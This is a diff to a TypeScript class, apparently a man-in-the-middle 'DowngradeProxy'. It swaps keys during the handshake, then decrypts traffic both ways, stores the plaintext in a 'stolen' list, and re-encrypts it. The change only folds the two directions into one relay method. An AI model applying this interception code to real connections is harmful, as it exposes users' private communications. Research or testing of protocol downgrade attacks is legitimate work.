@@ -50,14 +50,7 @@ export class DowngradeProxy {
       this.towardClient.deriveSharedSecret(parsed.pubkey);
       return this.toServer(Buffer.from(this.docrypt.fencrypt(encodeHandshake(CMD_CONNECT, this.towardServer.publicKey))));
     }
-    if (!this.intercepting) return this.toServer(msg);
-    try {
-      const plaintext = this.towardClient.decrypt(msg);
-      this.stolen.push(plaintext.toString());
-      this.toServer(this.towardServer.encrypt(plaintext));
-    } catch {
-      this.toServer(msg);
-    }
+    this.relay(msg, this.towardClient, this.towardServer, (m) => this.toServer(m));
   }
 
   private fromServer(msg: Buffer): void {
@@ -69,13 +62,18 @@ export class DowngradeProxy {
       this.rewritten++;
       return this.toClient(Buffer.from(this.docrypt.fencrypt(encodeHandshake(CMD_CONNECTED, this.towardClient.publicKey))));
     }
-    if (!this.intercepting) return this.toClient(msg);
+    this.relay(msg, this.towardServer, this.towardClient, (m) => this.toClient(m));
+  }
+
+  /** Once intercepting: open with one side's key, keep a copy, seal with the other's. */
+  private relay(msg: Buffer, from: CommEncryptor, to: CommEncryptor, forward: (msg: Buffer) => void): void {
+    if (!this.intercepting) return forward(msg);
     try {
-      const plaintext = this.towardServer.decrypt(msg);
+      const plaintext = from.decrypt(msg);
       this.stolen.push(plaintext.toString());
-      this.toClient(this.towardClient.encrypt(plaintext));
+      forward(to.encrypt(plaintext));
     } catch {
-      this.toClient(msg);
+      forward(msg);
     }
   }
 
